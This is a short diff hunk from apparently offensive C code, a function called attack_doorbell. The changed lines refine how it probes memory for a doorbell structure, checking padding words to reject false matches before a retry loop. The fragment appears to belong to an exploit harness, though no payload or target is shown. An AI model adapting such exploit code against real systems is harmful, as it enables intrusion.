@@ -210,9 +210,9 @@ enum outcome attack_doorbell(long argument) {
         if (!peek(pipe, at, &after) || (uint32_t)before == (uint32_t)after)
             continue;
         volatile struct dvk_doorbell *bell = (struct dvk_doorbell *)at;
-        uint32_t pad = 0;
-        for (size_t k = 0; k < sizeof bell->pad / sizeof bell->pad[0]; k++)
-            pad |= bell->pad[k];
+        uint32_t pad = bell->pad;
+        for (size_t k = sizeof *bell / 4; k < DVK_DOORBELL_SIZE / 4; k++) /* nothing lies behind it */
+            pad |= ((volatile uint32_t *)at)[k];
         if (pad || bell->sleeping > 1 || bell->cpu > 4096)
             continue; /* something else that moves */
         for (int i = 0; i < 1000; i++) {
